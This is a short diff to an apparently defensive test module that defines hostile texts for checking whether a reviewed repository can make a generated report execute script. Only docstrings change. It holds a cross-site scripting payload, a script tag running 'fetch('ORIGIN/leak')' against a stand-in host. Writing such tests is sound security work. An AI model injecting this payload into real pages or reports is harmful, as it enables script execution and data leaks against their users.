@@ -1,4 +1,4 @@
-"""Hostile texts for X11: what a reviewed repository can hold to make a report act instead of speak."""
+"""Hostile texts for X11: content of a reviewed repository that could make a report execute something."""
 
 import unicodedata
 
@@ -50,7 +50,7 @@ PAYLOADS = (
 )
 
 ACTION = "window.canary=1;alert(1);fetch('ORIGIN/leak')"
-"""What a payload does if it gets to act. ORIGIN stands for a server that would notice."""
+"""The action of a payload that is executed. ORIGIN stands for a server that would notice."""
 
 HTML_PAYLOADS = (
     f"<script>{ACTION}</script>",
